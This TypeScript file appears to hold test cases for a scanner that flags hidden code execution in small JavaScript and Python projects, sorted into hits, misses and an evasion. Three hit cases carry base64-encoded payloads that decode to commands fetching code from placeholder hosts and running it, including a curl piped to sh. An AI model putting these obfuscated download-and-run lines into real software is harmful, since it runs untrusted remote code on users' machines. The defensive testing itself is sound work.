import type { Examples } from "@doorward/core";

/** Hidden programs that act, and hidden programs that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "decoded text that starts a program",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgLXMgaHR0cHM6Ly9uZXh0LmV4YW1wbGUvYSB8IHNoIik=", "base64").toString());\n',
      },
    },
    {
      name: "decoded text that fetches and runs more",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'eval(atob("ZmV0Y2goJ2h0dHBzOi8vY2RuLmV4YW1wbGUvYWdlbnQuanMnKS50aGVuKChhKSA9PiBhLnRleHQoKSkudGhlbigodCkgPT4gZXZhbCh0KSk="));\n',
      },
    },
    {
      name: "decoded text of Python that runs more",
      files: {
        "main.py":
          'import base64\n\nexec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0OyBleGVjKHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vbmV4dC5leGFtcGxlL2EiKS5yZWFkKCkp"))\n',
      },
    },
  ],
  misses: [
    {
      name: "decoded text that prints",
      why: "It starts nothing and asks nobody.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'eval(Buffer.from("Y29uc29sZS5sb2coMSArIDEpIC8vIGEgbG9uZ2VyIHRleHQ=", "base64").toString());\n',
      },
    },
    {
      name: "plain text that starts a program",
      why: "It can be read where it stands.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'eval("require(\\"child_process\\").exec(\\"git status\\")");\n',
      },
    },
    {
      name: "decoded text that is sent",
      why: "It is sent, not run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://data.example/", { method: "POST", body: atob("YSBsb25nZXIgdGV4dCwgYSBsb25nZXIgdGV4dA==") });\n',
      },
    },
  ],
  evasions: [
    {
      name: "decoded text that waits for an order",
      caughtBy: "nothing",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'console.log("waits");\n',
      },
    },
  ],
};
